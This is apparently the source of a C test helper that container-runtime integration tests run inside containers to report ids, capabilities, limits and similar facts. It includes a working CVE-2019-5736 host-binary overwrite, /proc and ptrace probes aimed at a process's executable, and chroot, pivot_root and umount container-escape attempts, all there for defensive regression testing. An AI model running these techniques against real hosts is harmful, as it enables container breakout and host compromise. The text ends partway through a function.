/* SPDX-License-Identifier: Apache-2.0 */
/*
 * probe: reports facts from INSIDE a container, one key=value per line on
 * stdout, so that integration tests can grep them and compare them with what
 * the config asked for. Built static and copied into each test rootfs.
 *
 *   probe [all]            ids, groups, cwd, uts names, umask, caps, seccomp...
 *   probe env              the environment, in environ order
 *   probe mounts           /proc/self/mountinfo verbatim
 *   probe rlimit NAME...   rlimit_NAME=SOFT:HARD (NAME like NOFILE or RLIMIT_NOFILE)
 *   probe fds              fds=0,1,2 (the probe's own open fds)
 *   probe ls PATH          "name type mode major:minor" or "name l -> target"
 *   probe stat PATH        exists= type= mode= uid= gid= rdev= (lstat)
 *   probe cat PATH         the file's content
 *   probe write PATH TEXT  write=ok or write=ERRNO_NAME (always exits 0)
 *   probe open PATH        open=ok or open=ERRNO_NAME (always exits 0)
 *   probe exit N | kill SIG | sleep SECS | net | forks N
 *   probe attack PID DEV:INO  every way to reach PID's executable file
 *                          (/proc/PID/exe, map_files, fd, maps, mem, ptrace):
 *                          VECTOR=RESULT lines, then reached=N (how many
 *                          reached the file with that st_dev:st_ino)
 *   probe cve5736 DIR      the CVE-2019-5736 attacker: results in DIR/result
 *                          (target= exe= seals= overwrite= done=1)
 *   probe escape MARKER    ways out of the container's root for its root user,
 *                          MARKER being a path that exists only outside:
 *                          chroot_walk= setns_root= move_root= pivot_root=
 *                          umount_root= (ok:escaped|ok:contained|ERRNO), escaped=N
 *   probe session          pid= pgrp= sid= (as seen inside), tty_uid= tty_gid=
 *                          (owner of the terminal on fd 0, or "none"),
 *                          keyring= (the session keyring: "_ses.ID", or
 *                          keyring=ERRNO_NAME), keyring_id= (its serial)
 *   probe proc             personality= sched_policy= sched_priority= nice=
 *                          ioprio=CLASS:DATA cpus=LIST monotonic=SECS
 *                          timens_offsets= (monotonic/boottime) label=
 *
 * Usage errors go to stderr with exit status 2.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <net/if.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define ARRAY_LEN(a) (sizeof(a) / sizeof((a)[0]))

struct name_val {
	const char *name;
	int val;
};

#define NV(x) { #x, x }

static const struct name_val errnos[] = {
	NV(EPERM), NV(ENOENT), NV(ESRCH), NV(EINTR), NV(EIO), NV(ENXIO),
	NV(E2BIG), NV(ENOEXEC), NV(EBADF), NV(ECHILD), NV(EAGAIN), NV(ENOMEM),
	NV(EACCES), NV(EFAULT), NV(EBUSY), NV(EEXIST), NV(EXDEV), NV(ENODEV),
	NV(ENOTDIR), NV(EISDIR), NV(EINVAL), NV(ENFILE), NV(EMFILE),
	NV(ENOTTY), NV(ETXTBSY), NV(EFBIG), NV(ENOSPC), NV(ESPIPE), NV(EROFS),
	NV(EMLINK), NV(EPIPE), NV(ENAMETOOLONG), NV(ENOSYS), NV(ELOOP),
	NV(EOPNOTSUPP), NV(EDQUOT),
};

static const struct name_val rlimits[] = {
	NV(RLIMIT_NOFILE), NV(RLIMIT_NPROC), NV(RLIMIT_CORE), NV(RLIMIT_CPU),
	NV(RLIMIT_DATA), NV(RLIMIT_FSIZE), NV(RLIMIT_MEMLOCK), NV(RLIMIT_STACK),
	NV(RLIMIT_AS), NV(RLIMIT_LOCKS), NV(RLIMIT_SIGPENDING),
	NV(RLIMIT_MSGQUEUE), NV(RLIMIT_NICE), NV(RLIMIT_RTPRIO),
	NV(RLIMIT_RTTIME), NV(RLIMIT_RSS),
};

/* Signals `sleep` reports (got=NAME, exit 128+N), to test forwarding. */
static const struct name_val sleep_signals[] = {
	NV(SIGTERM), NV(SIGINT), NV(SIGHUP), NV(SIGUSR1), NV(SIGUSR2),
	NV(SIGQUIT), NV(SIGWINCH), NV(SIGCONT), NV(SIGALRM), NV(SIGPIPE),
	NV(SIGTSTP), NV(SIGTTIN), NV(SIGTTOU), NV(SIGXCPU), NV(SIGVTALRM),
	NV(SIGPROF), NV(SIGURG), NV(SIGPWR), NV(SIGABRT), NV(SIGSYS),
};

static int usage_error(const char *msg, const char *arg)
{
	fprintf(stderr, "probe: %s%s%s\n", msg, arg ? ": " : "", arg ? arg : "");
	return 2;
}

/* Writes the errno's symbolic name, or its number when not in the table. */
static void print_errno(const char *key, int e)
{
	for (size_t i = 0; i < ARRAY_LEN(errnos); i++) {
		if (errnos[i].val == e) {
			printf("%s=%s\n", key, errnos[i].name);
			return;
		}
	}
	printf("%s=%d\n", key, e);
}

static int parse_int(const char *s, long min, long max, long *out)
{
	char *end;

	errno = 0;
	*out = strtol(s, &end, 10);
	return errno || end == s || *end || *out < min || *out > max ? -1 : 0;
}

/* Reads a small file into buf (NUL-terminated); -1 with errno on failure. */
static ssize_t read_small(const char *path, char *buf, size_t size)
{
	size_t len = 0;
	ssize_t n = 0;
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return -1;
	while (len < size - 1 && (n = read(fd, buf + len, size - 1 - len)) != 0) {
		if (n < 0 && errno != EINTR)
			break;
		if (n > 0)
			len += (size_t)n;
	}
	close(fd);
	buf[len] = '\0';
	return n < 0 ? -1 : (ssize_t)len;
}

/* Value of "Field:" in /proc/self/status text, or NULL when absent. */
static const char *status_value(const char *status, const char *field)
{
	char pat[32];
	const char *p;

	snprintf(pat, sizeof(pat), "\n%s:", field);
	p = strstr(status, pat);
	return p ? p + strlen(pat) + strspn(p + strlen(pat), " \t") : NULL;
}

static void print_status(const char *status, const char *key, const char *field)
{
	const char *v = status_value(status, field);

	printf("%s=%.*s\n", key, v ? (int)strcspn(v, "\n") : 0, v ? v : "");
}

static void print_groups(void)
{
	/* The kernel's NGROUPS_MAX (65536), not musl's header's 32. */
	static gid_t groups[65536];
	int n = getgroups(65536, groups);

	printf("groups=");
	for (int i = 0; i < n; i++)
		printf("%s%u", i ? "," : "", (unsigned)groups[i]);
	printf("\n");
}

static void print_umask(const char *status)
{
	const char *v = status_value(status, "Umask");
	unsigned long mask;

	if (v) {
		mask = strtoul(v, NULL, 8);
	} else { /* kernels before 4.7 lack the field */
		mask = umask(0);
		umask((mode_t)mask);
	}
	printf("umask=%04lo\n", mask);
}

static int cmd_all(void)
{
	static char status[16384];
	char buf[PATH_MAX];
	struct utsname u;
	const char *tty;

	if (read_small("/proc/self/status", status, sizeof(status)) < 0)
		status[0] = '\0';
	printf("pid=%d\nppid=%d\n", (int)getpid(), (int)getppid());
	printf("uid=%u\ngid=%u\n", (unsigned)getuid(), (unsigned)getgid());
	printf("euid=%u\negid=%u\n", (unsigned)geteuid(), (unsigned)getegid());
	print_groups();
	printf("cwd=%s\n", getcwd(buf, sizeof(buf)) ? buf : "");
	if (uname(&u) == 0)
		printf("hostname=%s\ndomainname=%s\n", u.nodename, u.domainname);
	print_umask(status);
	print_status(status, "nnp", "NoNewPrivs");
	print_status(status, "capinh", "CapInh");
	print_status(status, "capprm", "CapPrm");
	print_status(status, "capeff", "CapEff");
	print_status(status, "capbnd", "CapBnd");
	print_status(status, "capamb", "CapAmb");
	print_status(status, "seccomp", "Seccomp");
	/* Extra: a runtime must not leak a blocked or ignored signal mask. */
	print_status(status, "sigblk", "SigBlk");
	print_status(status, "sigign", "SigIgn");
	if (read_small("/proc/self/oom_score_adj", buf, sizeof(buf)) < 0)
		buf[0] = '\0';
	printf("oom_score_adj=%.*s\n", (int)strcspn(buf, "\n"), buf);
	printf("tty=%d\n", isatty(0) ? 1 : 0);
	tty = ttyname(0);
	printf("ttyname=%s\n", tty ? tty : "");
	return 0;
}

static int cmd_env(void)
{
	extern char **environ;

	for (char **e = environ; *e; e++)
		printf("%s\n", *e);
	return 0;
}

static int cmd_cat(const char *path)
{
	char buf[8192];
	ssize_t n;
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0) {
		fprintf(stderr, "probe: open %s: %s\n", path, strerror(errno));
		return 1;
	}
	while ((n = read(fd, buf, sizeof(buf))) != 0) {
		if (n < 0 && errno == EINTR)
			continue;
		if (n < 0) {
			fprintf(stderr, "probe: read %s: %s\n", path, strerror(errno));
			close(fd);
			return 1;
		}
		fwrite(buf, 1, (size_t)n, stdout);
	}
	close(fd);
	return 0;
}

static int cmd_rlimit(int argc, char **argv)
{
	for (int i = 0; i < argc; i++) {
		const char *name = argv[i];
		const struct name_val *r = NULL;
		struct rlimit rl;

		if (strncmp(name, "RLIMIT_", 7) == 0)
			name += 7;
		for (size_t j = 0; j < ARRAY_LEN(rlimits); j++)
			if (strcmp(rlimits[j].name + 7, name) == 0)
				r = &rlimits[j];
		if (!r)
			return usage_error("unknown rlimit", argv[i]);
		if (getrlimit(r->val, &rl) < 0)
			return usage_error("getrlimit failed", argv[i]);
		printf("rlimit_%s=", name);
		if (rl.rlim_cur == RLIM_INFINITY)
			printf("unlimited:");
		else
			printf("%llu:", (unsigned long long)rl.rlim_cur);
		if (rl.rlim_max == RLIM_INFINITY)
			printf("unlimited\n");
		else
			printf("%llu\n", (unsigned long long)rl.rlim_max);
	}
	return 0;
}

static int cmp_int(const void *a, const void *b)
{
	int x = *(const int *)a, y = *(const int *)b;

	return (x > y) - (x < y);
}

static int cmd_fds(void)
{
	static int fds[65536];
	size_t n = 0;
	struct dirent *d;
	DIR *dir = opendir("/proc/self/fd");

	if (!dir)
		return usage_error("cannot open /proc/self/fd", strerror(errno));
	while ((d = readdir(dir)) && n < ARRAY_LEN(fds)) {
		if (d->d_name[0] == '.' || atoi(d->d_name) == dirfd(dir))
			continue;
		fds[n++] = atoi(d->d_name);
	}
	closedir(dir);
	qsort(fds, n, sizeof(fds[0]), cmp_int);
	printf("fds=");
	for (size_t i = 0; i < n; i++)
		printf("%s%d", i ? "," : "", fds[i]);
	printf("\n");
	return 0;
}

static char type_char(mode_t m)
{
	return S_ISREG(m) ? 'f' : S_ISDIR(m) ? 'd' : S_ISLNK(m) ? 'l' :
	       S_ISCHR(m) ? 'c' : S_ISBLK(m) ? 'b' : S_ISFIFO(m) ? 'p' :
	       S_ISSOCK(m) ? 's' : '?';
}

static int skip_dots(const struct dirent *d)
{
	return strcmp(d->d_name, ".") != 0 && strcmp(d->d_name, "..") != 0;
}

/* strcmp, not alphasort: the order must not depend on the locale. */
static int by_name(const struct dirent **a, const struct dirent **b)
{
	return strcmp((*a)->d_name, (*b)->d_name);
}

static int cmd_ls(const char *path)
{
	struct dirent **ents;
	int fd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	int n = fd < 0 ? -1 : scandir(path, &ents, skip_dots, by_name);

	if (n < 0) {
		fprintf(stderr, "probe: ls %s: %s\n", path, strerror(errno));
		return 1;
	}
	for (int i = 0; i < n; i++) {
		const char *name = ents[i]->d_name;
		char target[PATH_MAX];
		struct stat st;
		ssize_t len;

		if (fstatat(fd, name, &st, AT_SYMLINK_NOFOLLOW) < 0) {
			printf("%s ? %s\n", name, strerror(errno));
		} else if (S_ISLNK(st.st_mode)) {
			len = readlinkat(fd, name, target, sizeof(target) - 1);
			target[len < 0 ? 0 : len] = '\0';
			printf("%s l -> %s\n", name, target);
		} else {
			printf("%s %c %04o %u:%u\n", name, type_char(st.st_mode),
			       (unsigned)(st.st_mode & 07777),
			       major(st.st_rdev), minor(st.st_rdev));
		}
		free(ents[i]);
	}
	free(ents);
	close(fd);
	return 0;
}

static int cmd_stat(const char *path)
{
	char target[PATH_MAX];
	struct stat st;
	ssize_t len;

	if (lstat(path, &st) < 0) {
		printf("exists=0\n");
		print_errno("stat", errno);
		return 0;
	}
	printf("exists=1\ntype=%c\nmode=%04o\nuid=%u\ngid=%u\nrdev=%u:%u\n",
	       type_char(st.st_mode), (unsigned)(st.st_mode & 07777),
	       (unsigned)st.st_uid, (unsigned)st.st_gid,
	       major(st.st_rdev), minor(st.st_rdev));
	if (S_ISLNK(st.st_mode)) {
		len = readlink(path, target, sizeof(target) - 1);
		target[len < 0 ? 0 : len] = '\0';
		printf("target=%s\n", target);
	}
	return 0;
}

static int cmd_write(const char *path, const char *text)
{
	size_t len = strlen(text);
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);

	if (fd < 0 || write(fd, text, len) != (ssize_t)len) {
		print_errno("write", errno);
	} else if (close(fd) < 0) {
		fd = -1;
		print_errno("write", errno);
	} else {
		fd = -1;
		printf("write=ok\n");
	}
	if (fd >= 0)
		close(fd);
	return 0;
}

static int cmd_open(const char *path)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0) {
		print_errno("open", errno);
		return 0;
	}
	close(fd);
	printf("open=ok\n");
	return 0;
}

static int cmd_kill(const char *arg)
{
	long sig;

	if (parse_int(arg, 1, 64, &sig) < 0)
		return usage_error("bad signal number", arg);
	fflush(stdout);
	signal((int)sig, SIG_DFL);
	kill(getpid(), (int)sig);
	/*
	 * Still alive: the signal is one whose default is to ignore, or we are
	 * PID 1 of a PID namespace, which the kernel shields from its own
	 * signals when no handler is installed. Say so rather than fake a death.
	 */
	fprintf(stderr, "probe: still alive after kill(self, %ld)%s\n", sig,
		getpid() == 1 ? " (PID 1 ignores default-action signals)" : "");
	return 3;
}

static volatile sig_atomic_t got_signal;

static void on_signal(int sig)
{
	got_signal = sig;
}

static int cmd_sleep(const char *arg)
{
	struct sigaction sa = { .sa_handler = on_signal }; /* no SA_RESTART */
	char *end;
	double secs = strtod(arg, &end);
	struct timespec ts;

	if (end == arg || *end || !(secs >= 0 && secs < 1e9))
		return usage_error("bad number of seconds", arg);
	ts.tv_sec = (time_t)secs;
	ts.tv_nsec = (long)((secs - (double)ts.tv_sec) * 1e9);
	sigemptyset(&sa.sa_mask);
	for (size_t i = 0; i < ARRAY_LEN(sleep_signals); i++)
		sigaction(sleep_signals[i].val, &sa, NULL);
	/* Handlers are in place: a test may wait for this line, then signal. */
	printf("sleeping=%s\n", arg);
	fflush(stdout);
	while (nanosleep(&ts, &ts) < 0 && errno == EINTR && !got_signal)
		;
	for (size_t i = 0; got_signal && i < ARRAY_LEN(sleep_signals); i++) {
		if (sleep_signals[i].val == got_signal) {
			printf("got=%s\n", sleep_signals[i].name);
			return 128 + got_signal;
		}
	}
	printf("slept\n");
	return 0;
}

static int cmd_net(void)
{
	static char dev[65536];
	char *line, *save = NULL;
	int sock = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	if (sock < 0)
		return usage_error("socket", strerror(errno));
	if (read_small("/proc/net/dev", dev, sizeof(dev)) < 0) {
		close(sock);
		return usage_error("cannot read /proc/net/dev", strerror(errno));
	}
	/* Two header lines, then "  name: counters..." per interface. */
	line = strtok_r(dev, "\n", &save);
	line = line ? strtok_r(NULL, "\n", &save) : NULL;
	while ((line = strtok_r(NULL, "\n", &save))) {
		struct ifreq ifr = { 0 };
		char *colon = strchr(line, ':');

		if (!colon)
			continue;
		*colon = '\0';
		line += strspn(line, " ");
		snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", line);
		if (ioctl(sock, SIOCGIFFLAGS, &ifr) < 0)
			ifr.ifr_flags = 0;
		printf("if=%s up=%d\n", line, (ifr.ifr_flags & IFF_UP) ? 1 : 0);
	}
	close(sock);
	return 0;
}

static int cmd_forks(const char *arg)
{
	static pid_t kids[100000];
	long want;
	int forked = 0, err = 0;

	if (parse_int(arg, 0, (long)ARRAY_LEN(kids), &want) < 0)
		return usage_error("bad fork count", arg);
	fflush(stdout);
	for (; forked < want; forked++) {
		pid_t pid = fork();

		if (pid < 0) {
			err = errno;
			break;
		}
		if (pid == 0) { /* die with the probe even if it is SIGKILLed */
			prctl(PR_SET_PDEATHSIG, SIGKILL);
			for (;;)
				pause();
		}
		kids[forked] = pid;
	}
	for (int i = 0; i < forked; i++)
		kill(kids[i], SIGKILL);
	for (int i = 0; i < forked; i++)
		while (waitpid(kids[i], NULL, 0) < 0 && errno == EINTR)
			;
	printf("forked=%d\n", forked);
	if (err)
		print_errno("fork_errno", err);
	return 0;
}

static int cmd_exit(const char *arg)
{
	long n;

	return parse_int(arg, 0, 255, &n) < 0 ? usage_error("bad status", arg) : (int)n;
}

static unsigned long long target_dev, target_ino;
static int reached;

/* Opens path with flags; reports KEY=ok|ERRNO and whether it is the target
 * file.  Returns the fd (or -1). */
static int try_open(const char *key, const char *path, int flags)
{
	struct stat st;
	int fd = open(path, flags | O_CLOEXEC);

	if (fd < 0) {
		print_errno(key, errno);
		return -1;
	}
	if (fstat(fd, &st) == 0 && st.st_dev == target_dev && st.st_ino == target_ino) {
		printf("%s=REACHED %s\n", key, path);
		reached++;
	} else {
		printf("%s=ok\n", key);
	}
	return fd;
}

/* An O_PATH handle reopened for writing through /proc/self/fd: the
 * CVE-2019-5736 trick for a binary that is busy while it runs. */
static void try_reopen(const char *key, const char *path)
{
	char self[64], k[96];
	int fd = open(path, O_PATH | O_CLOEXEC);

	if (fd < 0) {
		snprintf(k, sizeof(k), "%s_path", key);
		print_errno(k, errno);
		return;
	}
	snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
	snprintf(k, sizeof(k), "%s_reopen_w", key);
	int w = try_open(k, self, O_WRONLY);
	if (w >= 0)
		close(w);
	close(fd);
}

/* Every entry of a /proc/PID directory of links: open it read-only and
 * for writing. */
static void try_dir(const char *key, const char *dir)
{
	char path[PATH_MAX], k[96];
	struct dirent *de;
	int n = 0;
	DIR *d = opendir(dir);

	if (!d) {
		print_errno(key, errno);
		return;
	}
	while ((de = readdir(d))) {
		if (de->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
		snprintf(k, sizeof(k), "%s_%d_r", key, n);
		int fd = try_open(k, path, O_RDONLY);
		if (fd >= 0)
			close(fd);
		snprintf(k, sizeof(k), "%s_%d_w", key, n++);
		fd = try_open(k, path, O_WRONLY);
		if (fd >= 0)
			close(fd);
	}
	closedir(d);
	printf("%s_entries=%d\n", key, n);
}

/* /proc/PID/maps names each mapping's device and inode: is the target file
 * mapped?  If so, /proc/PID/mem is a way to write to its pages. */
static void try_maps_mem(const char *proc)
{
	char path[PATH_MAX], line[1024];
	unsigned long long lo = 0, ino;
	unsigned maj, min;
	int mapped = 0;
	FILE *f;

	snprintf(path, sizeof(path), "%s/maps", proc);
	f = fopen(path, "re");
	if (!f) {
		print_errno("maps", errno);
	} else {
		while (fgets(line, sizeof(line), f)) {
			unsigned long long a;
			if (sscanf(line, "%llx-%*x %*s %*x %x:%x %llu", &a, &maj, &min, &ino) == 4 &&
			    makedev(maj, min) == target_dev && ino == target_ino && !mapped++)
				lo = a;
		}
		fclose(f);
		printf("maps=%s\n", mapped ? "REACHED" : "ok");
		reached += mapped > 0;
	}
	snprintf(path, sizeof(path), "%s/mem", proc);
	int fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd < 0) {
		print_errno("mem", errno);
		return;
	}
	printf("mem=ok\n");
	/* Write one byte of the target's pages back onto itself. */
	if (lo) {
		char c;
		ssize_t r = pread(fd, &c, 1, (off_t)lo);
		printf("mem_write=%s\n", r == 1 && pwrite(fd, &c, 1, (off_t)lo) == 1 ? "ok" : "failed");
	}
	close(fd);
}

static void try_ptrace(long pid)
{
	if (ptrace(PTRACE_SEIZE, (pid_t)pid, 0, 0) < 0) {
		print_errno("ptrace", errno);
		return;
	}
	printf("ptrace=ok\n");
	ptrace(PTRACE_DETACH, (pid_t)pid, 0, 0);
}

static int cmd_attack(const char *pidarg, const char *target)
{
	char proc[64], path[PATH_MAX];
	long pid;

	if (parse_int(pidarg, 1, 1 << 22, &pid) < 0 ||
	    sscanf(target, "%llu:%llu", &target_dev, &target_ino) != 2)
		return usage_error("usage: attack PID DEV:INO", NULL);
	snprintf(proc, sizeof(proc), "/proc/%ld", pid);
	snprintf(path, sizeof(path), "%s/exe", proc);
	int fd = try_open("exe_r", path, O_RDONLY);
	if (fd >= 0)
		close(fd);
	fd = try_open("exe_w", path, O_WRONLY);
	if (fd >= 0)
		close(fd);
	try_reopen("exe", path);
	snprintf(path, sizeof(path), "%s/map_files", proc);
	try_dir("map_files", path);
	snprintf(path, sizeof(path), "%s/fd", proc);
	try_dir("fd", path);
	try_maps_mem(proc);
	try_ptrace(pid);
	printf("reached=%d\n", reached);
	return 0;
}

static const char *marker;
static int escapes;

static int marker_seen(void)
{
	struct stat st;
	return lstat(marker, &st) == 0;
}

/* The classic chroot escape: chroot into a subdirectory without entering
 * it, walk ".." up from the cwd left outside, chroot there.  In a child,
 * so that our own root stays.  Exit 0: escaped, 1: contained, 2+: errno. */
static int walk_child(void)
{
	if (chroot("/bin") < 0)
		return 2 + errno;
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return 2 + errno;
	if (chroot(".") < 0)
		return 2 + errno;
	return marker_seen() ? 0 : 1;
}

static int mntns = -1;

/* setns into our own mount namespace resets root and cwd to its root
 * (with what is mounted over it): what lies there? */
static int setns_child(void)
{
	if (setns(mntns, CLONE_NEWNS) < 0)
		return 2 + errno;
	return marker_seen() ? 0 : 1;
}

static int in_child(int (*fn)(void))
{
	int st = 0;
	pid_t pid = fork();
	if (pid == 0)
		_exit(fn());
	waitpid(pid, &st, 0);
	return WIFEXITED(st) ? WEXITSTATUS(st) : 1;
}

static void report(const char *key, int rc, int e)
{
	if (rc < 0) {
		print_errno(key, e);
		return;
	}
	int seen = marker_seen() || in_child(walk_child) == 0 || in_child(setns_child) == 0;
	printf("%s=ok:%s\n", key, seen ? "escaped" : "contained");
	escapes += seen;
}

static int cmd_escape(const char *arg)
{
	marker = arg;
	if (marker_seen()) {
		printf("marker_visible=1\nescaped=1\n");
		return 0;
	}
	mntns = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
	int w = in_child(walk_child);
	if (w >= 2)
		print_errno("chroot_walk", w - 2);
	else
		printf("chroot_walk=%s\n", w == 0 ? "escaped" : "contained");
	escapes += w == 0;
	w = in_child(setns_child);
	if (w >= 2)
		print_errno("setns_root", w - 2);
	else
		printf("setns_root=%s\n", w == 0 ? "escaped" : "contained");
	escapes += w == 0;
	/* Uncover what lies below our root (root of a user namespace holds
	 * CAP_SYS_ADMIN over its own mount namespace). */
	int r = mount("/", "/tmp", NULL, MS_MOVE, NULL);
	report("move_root", r, errno);
	r = (int)syscall(SYS_pivot_root, "/", "/");
	if (r == 0)
		r = umount2("/", MNT_DETACH);
	report("pivot_root", r, errno);
	r = umount2("/", MNT_DETACH);
	report("umount_root", r, errno);
	printf("escaped=%d\n", escapes);
	return 0;
}

/* Scheduling, personality, affinity, time namespace and LSM label: the
 * process attributes a runtime sets just before exec. */
static int cmd_proc(void)
{
	char buf[4096];
	struct sched_param sp;
	struct timespec ts;
	cpu_set_t set;
	int first = 1;

	printf("personality=0x%lx\n", (unsigned long)syscall(SYS_personality, 0xffffffffUL));
	/* musl's sched_getscheduler/getparam are ENOSYS stubs: raw calls. */
	printf("sched_policy=%ld\n", syscall(SYS_sched_getscheduler, 0) & ~(long)SCHED_RESET_ON_FORK);
	printf("sched_priority=%d\n", syscall(SYS_sched_getparam, 0, &sp) == 0 ? sp.sched_priority : -1);
	errno = 0;
	printf("nice=%d\n", getpriority(PRIO_PROCESS, 0));
	long io = syscall(SYS_ioprio_get, 1, 0);
	printf("ioprio=%ld:%ld\n", io < 0 ? -1 : io >> 13, io < 0 ? -1 : io & 0x1fff);
	printf("cpus=");
	if (sched_getaffinity(0, sizeof set, &set) == 0)
		for (int c = 0; c < CPU_SETSIZE; c++)
			if (CPU_ISSET(c, &set)) {
				printf("%s%d", first ? "" : ",", c);
				first = 0;
			}
	printf("\n");
	clock_gettime(CLOCK_MONOTONIC, &ts);
	printf("monotonic=%lld\n", (long long)ts.tv_sec);
	if (read_small("/proc/self/timens_offsets", buf, sizeof(buf)) < 0)
		buf[0] = '\0';
	for (char *p = buf; *p; p++)
		if (*p == '\n')
			*p = ';';
	printf("timens_offsets=%s\n", buf);
	if (read_small("/proc/self/attr/current", buf, sizeof(buf)) < 0)
		buf[0] = '\0';
	printf("label=%.*s\n", (int)strcspn(buf, "\n"), buf);
	return 0;
}

/* A process (not us) with the argument `want` on its command line, or 0. */
static pid_t find_by_arg(const char *want)
{
	DIR *d = opendir("/proc");
	struct dirent *de;
	pid_t found = 0;

	while (d && !found && (de = readdir(d))) {
		char path[64], buf[4096];
		pid_t pid = (pid_t)atoi(de->d_name);
		if (pid <= 0 || pid == getpid())
			continue;
		snprintf(path, sizeof(path), "/proc/%d/cmdline", (int)pid);
		int fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		ssize_t n = read(fd, buf, sizeof(buf) - 1);
		close(fd);
		for (ssize_t i = 0; n > 0 && i < n; i += (ssize_t)strlen(buf + i) + 1) {
			buf[n] = '\0';
			if (strcmp(buf + i, want) == 0)
				found = pid;
		}
	}
	if (d)
		closedir(d);
	return found;
}

/*
 * The CVE-2019-5736 attack, run from inside a container by
 * tests/integ/cve-2019-5736.bats.  The runtime's code, run in the container
 * (through a #!/proc/self/exe script or an entrypoint /proc/self/exe) with
 * --log=DIR/fifo, blocks opening that FIFO.  We find it, open its
 * /proc/PID/exe with O_PATH, let it go on (open the FIFO's other end), wait
 * until it has exited (ETXTBSY ends) and write through our fd: on a
 * vulnerable runtime, that is the host's binary.  DIR/stop (created by the
 * test) ends the search when no target came.  Every fact goes to
 * DIR/result, the last line being done=1.
 */
static int cmd_cve5736(const char *dir)
{
	static const char payload[] = "#!/bin/sh\necho overwritten from a container: CVE-2019-5736\n";
	char want[PATH_MAX], path[PATH_MAX + 64], exe[PATH_MAX];
	pid_t pid;
	int fd, w = -1;

	snprintf(path, sizeof(path), "%s/result", dir);
	if (!freopen(path, "w", stdout))
		return 1;
	setvbuf(stdout, NULL, _IOLBF, 0);
	snprintf(want, sizeof(want), "--log=%s/fifo", dir);
	snprintf(path, sizeof(path), "%s/stop", dir);
	while (!(pid = find_by_arg(want))) {
		if (access(path, F_OK) == 0) {
			printf("target=none\ndone=1\n");
			return 0;
		}
		usleep(1000);
	}
	printf("target=%d\n", (int)pid);
	snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		print_errno("exe_open", errno);
	ssize_t n = readlink(path, exe, sizeof(exe) - 1);
	printf("exe=%.*s\n", n > 0 ? (int)n : 0, exe);
	/* What the attacker holds: a sealed memfd answers F_GET_SEALS. */
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	int s = fd < 0 ? -1 : open(path, O_RDONLY | O_CLOEXEC);
	int seals = s < 0 ? -1 : fcntl(s, F_GET_SEALS);
	if (seals < 0)
		print_errno("seals", errno);
	else
		printf("seals=%d\n", seals);
	if (s >= 0)
		close(s);
	/* Let it go on: its open of the FIFO returns.  The read end stays
	 * open until the end, so that its later opens of the log (an error
	 * line) do not block it forever: it must exit for the write below. */
	snprintf(path, sizeof(path), "/proc/%d/root%s/fifo", (int)pid, dir);
	int r = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	if (r < 0)
		kill(pid, SIGKILL);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int i = 0; fd >= 0 && i < 200000; i++) {   /* up to ~100 s */
		w = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
		if (w >= 0 || errno != ETXTBSY)
			break;
		usleep(500);
	}
	if (r >= 0)
		close(r);
	if (w < 0) {
		print_errno("overwrite", fd < 0 ? EBADF : errno);
	} else if (write(w, payload, sizeof(payload) - 1) != (ssize_t)sizeof(payload) - 1) {
		print_errno("overwrite", errno);
	} else {
		printf("overwrite=ok\n");
	}
	printf("done=1\n");
	return 0;
}

/* Subcommands that take exactly one argument. */
static const struct {
	const char *name;
	int (*fn)(const char *arg);
} one_arg_cmds[] = {
	{ "ls", cmd_ls },	{ "stat", cmd_stat },	{ "cat", cmd_cat },
	{ "open", cmd_open },	{ "kill", cmd_kill },	{ "sleep", cmd_sleep },
	{ "forks", cmd_forks }, { "exit", cmd_exit },	{ "cve5736", cmd_cve5736 },
	{ "escape", cmd_escape },
};

/* Runs the subcommand; argc/argv start at the subcommand's first argument. */
/* keyctl(2) numbers (linux/keyctl.h): no libkeyutils in a static probe. */
#define PROBE_KEYCTL_GET_KEYRING_ID 0
#define PROBE_KEYCTL_DESCRIBE 6
#define PROBE_KEY_SPEC_SESSION_KEYRING (-3)

static int cmd_session(void)
{
	struct stat st;
	char desc[512];

	printf("pid=%d\npgrp=%d\nsid=%d\n", (int)getpid(), (int)getpgrp(), (int)getsid(0));
	if (isatty(0) && fstat(0, &st) == 0)
		printf("tty_uid=%u\ntty_gid=%u\n", (unsigned)st.st_uid, (unsigned)st.st_gid);
	else
		printf("tty_uid=none\ntty_gid=none\n");
	/* "keyring;UID;GID;PERM;NAME": print NAME.  Describing the session
	 * keyring does not create one when there is none: it is then the
	 * user's session keyring (_uid_ses.UID). */
	long n = syscall(SYS_keyctl, PROBE_KEYCTL_DESCRIBE, PROBE_KEY_SPEC_SESSION_KEYRING, desc,
			 sizeof(desc) - 1, 0);
	if (n < 0) {
		print_errno("keyring", errno);
		return 0;
	}
	desc[n < (long)sizeof(desc) ? n : (long)sizeof(desc) - 1] = '\0';
	const char *name = strrchr(desc, ';');
	printf("keyring=%s\n", name ? name + 1 : desc);
